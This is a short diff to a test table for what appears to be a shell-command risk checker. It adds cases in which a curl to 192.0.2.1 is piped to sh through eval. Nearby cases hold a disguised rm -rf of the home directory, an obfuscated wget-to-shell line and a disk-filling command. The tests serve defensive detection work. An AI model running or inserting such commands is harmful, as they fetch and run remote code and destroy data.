@@ -61,6 +61,8 @@ def test_what_javascript_spells_item_by_item_is_what_it_spells(text, wanted):
         ("set -- -rf ~\nrm \"$@\"", {"syntax"}),
         ("x='wget http://192.0.2.1'; ${x/wget/curl} | ${SHELL##*/}", {"syntax"}),
         ("f=a.tar.gz; echo \"${f%%.*}\" \"${f/tar/zip}\"", set()),
+        ("x='curl http://192.0.2.1'; y='| sh'; eval \"$x $y\"", {"syntax"}),
+        ("x='ls'; y='-l'; eval \"$x $y\"", set()),
         ("head -c $((1 << 40)) /dev/zero > x", {"resources"}),
         ("N=2; dd if=/dev/zero of=x bs=1M count=$((N * 16))", set()),
         ("read -r c; eval \"$c\"", {"syntax"}),
